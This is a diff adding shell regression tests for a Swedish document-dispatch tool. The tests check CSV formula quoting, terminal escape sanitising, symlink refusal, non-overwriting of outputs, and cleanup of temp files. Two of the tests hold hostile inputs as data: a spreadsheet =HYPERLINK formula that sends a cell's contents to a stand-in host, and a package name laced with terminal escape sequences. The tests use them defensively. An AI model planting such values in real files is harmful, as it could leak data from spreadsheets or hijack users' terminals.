@@ -227,3 +227,116 @@ if [ -n "$head" ] && [ "$plain" -eq 0 ] && [ "$withhead" -eq 1 ] &&
 	bad "promises/rewritten log: head '$head', plain verify exit $plain (the rewrite should fool it), with --head exit $withhead"
 	cat "$P/rewrite.out" "$P/plain.out" "$P/head.out"
 fi
+
+# ---- a spelling fix of a name is the same person: nothing is sent again ----
+W=$P/spelling
+mkwork "$W"
+cp -r "$ex" "$P/stavning"
+send_in "$W" "$P/stavning"
+sed -i 's|<namn>Maria Sjöberg</namn>|<namn>Maria Sjöbergh</namn>|' "$P/stavning/forsattsblad/sn-2026-387.xml"
+send_in "$W" "$P/stavning"
+if grep -q ' 0 skickade, ' "$tmp/out"; then ok; else
+	bad "promises/a spelling fix sent again"
+	cat "$tmp/out"
+fi
+
+# ---- two audit logs share one print folder: nothing replaces anything ----
+# (a print service, or a log recreated): both runs' batches and manifests are
+# there, each whole.
+W=$P/twologs
+mkwork "$W"
+sed "s|^database = .*|database = $W/andra.db|" "$W/expediera.conf" >"$W/andra.conf"
+sed -i "s|^folder = out/|folder = $W/out/|" "$W/andra.conf"
+send_in "$W" "$ex"
+sums1=$(cd "$W/out/print" && sha256sum -- * | sort)
+"$bin" send --config "$W/andra.conf" "$ex" >"$tmp/out" 2>"$tmp/err"
+n=$(ls "$W"/out/print/*.pdf | wc -l)
+gone=$(cd "$W/out/print" && printf '%s\n' "$sums1" | sha256sum -c --quiet 2>&1 | wc -l)
+if [ "$n" -eq 4 ] && [ "$gone" -eq 0 ] && [ "$(ls "$W"/out/print/*.csv | wc -l)" -eq 4 ]; then ok; else
+	bad "promises/two logs, one print folder: $n batches, $gone files of the first run changed"
+	ls -l "$W/out/print"
+fi
+
+# ---- two organs meet the same day with the same § numbers ----
+W=$P/organs
+mkwork "$W"
+cp -r "$ex" "$P/organ2"
+sed -i 's|<organ>Socialnämndens individutskott</organ>|<organ>Socialnämndens arbetsutskott</organ>|' "$P/organ2/protokoll.xml"
+send_in "$W" "$ex"
+a1=$(ls "$W"/out/arkiv/*-protokollsutdrag.pdf | wc -l)
+sums1=$(cd "$W/out/arkiv" && sha256sum -- *-protokollsutdrag.* | sort)
+send_in "$W" "$P/organ2"
+a2=$(ls "$W"/out/arkiv/*-protokollsutdrag.pdf | wc -l)
+gone=$(cd "$W/out/arkiv" && printf '%s\n' "$sums1" | sha256sum -c --quiet 2>&1 | wc -l)
+if [ "$a1" -gt 0 ] && [ "$a2" -eq $((2 * a1)) ] && [ "$gone" -eq 0 ]; then ok; else
+	bad "promises/two organs, same §: $a1 then $a2 archive copies, $gone of the first changed"
+fi
+
+# ---- formulas in CSV files: a name a spreadsheet would run ----
+W=$P/csv
+mkwork "$W"
+cp -r "$ex" "$P/formel"
+sed -i 's|<namn>Maria Sjöberg</namn>|<namn>=HYPERLINK("http://x/"\&amp;A1;"klicka")</namn>|' "$P/formel/forsattsblad/sn-2026-387.xml"
+send_in "$W" "$P/formel"
+if grep -h 'HYPERLINK' "$W"/out/print/*.csv "$W"/out/arkiv/*.csv >"$P/formula.txt" &&
+    ! grep -Eq '(^|,)=' "$P/formula.txt" && grep -q "\"'=HYPERLINK" "$P/formula.txt"; then ok; else
+	bad "promises/csv: a formula reached a CSV unquoted"
+	cat "$P/formula.txt"
+fi
+
+# ---- names from outside cannot drive the terminal ----
+W=$P/escape
+mkwork "$W"
+SP=$P/escape-spool
+mkdir -p "$SP/inkommande"
+esc=$(printf 'paket-\033]0;titel\007-\033[2J')
+cp -r "$ex" "$SP/inkommande/$esc"
+touch "$SP/inkommande/$esc/KLAR"
+"$bin" watch --once --config "$W/expediera.conf" "$SP" >"$tmp/out" 2>"$tmp/err"
+if ! grep -q "$(printf '\033')" "$tmp/out" "$tmp/err" && grep -q 'paket-?' "$tmp/out"; then ok; else
+	bad "promises/escape sequences in a package name reached the terminal"
+fi
+"$bin" check "$SP/klara/$esc" >"$tmp/out" 2>"$tmp/err"
+if ! grep -q "$(printf '\033')" "$tmp/out" "$tmp/err"; then ok; else
+	bad "promises/escape sequences in check's summary"
+fi
+
+# ---- links are not followed ----
+# A package in the spool that is a link to a directory elsewhere is left
+# alone; a link in place of a sender's hand-over folder gets nothing.
+W=$P/links
+mkwork "$W"
+SP=$P/links-spool
+mkdir -p "$SP/inkommande" "$P/elsewhere"
+cp -r "$ex" "$P/elsewhere/paket"
+touch "$P/elsewhere/paket/KLAR"
+ln -s "$P/elsewhere/paket" "$SP/inkommande/lank"
+"$bin" watch --once --config "$W/expediera.conf" "$SP" >"$tmp/out" 2>"$tmp/err"
+if [ -L "$SP/inkommande/lank" ] && [ ! -e "$SP/klara/lank" ] && [ ! -e "$W/out/print" ] &&
+    grep -q 'symbolisk länk' "$tmp/err"; then ok; else
+	bad "promises/links: a linked package in the spool was followed"
+fi
+mkdir -p "$W/out/manuell" "$P/stolen"
+ln -s "$P/stolen" "$W/out/manuell/lena-forsberg"
+send_in "$W" "$ex"
+if [ -z "$(ls -A "$P/stolen")" ] && grep -q 'inte en katalog' "$tmp/err"; then ok; else
+	bad "promises/links: a hand-over went through a link ($(ls "$P/stolen"))"
+fi
+
+# ---- what killed runs left is swept ----
+W=$P/sweep
+mkwork "$W"
+mkdir -p "$W/out/print"
+sleep 30 & live=$!
+dead=$(sh -c 'echo $$')
+printf 'personuppgifter' >"$W/out/print/.utskrift-x.pdf.tmp$dead"
+printf 'personuppgifter' >"$W/out/print/.utskrift-y.pdf.tmp$live"
+printf 'personuppgifter' >"$W/out/print/.utskrift-z.pdf.tmp$dead.new"
+touch -d '1 hour ago' "$W"/out/print/.utskrift-*
+send_in "$W" "$ex"
+kill "$live" 2>/dev/null
+if [ ! -e "$W/out/print/.utskrift-x.pdf.tmp$dead" ] && [ -e "$W/out/print/.utskrift-y.pdf.tmp$live" ] &&
+    [ -e "$W/out/print/.utskrift-z.pdf.tmp$dead.new" ]; then ok; else
+	bad "promises/sweep: temporary files of dead runs left, or a live one removed"
+	ls -la "$W/out/print"
+fi
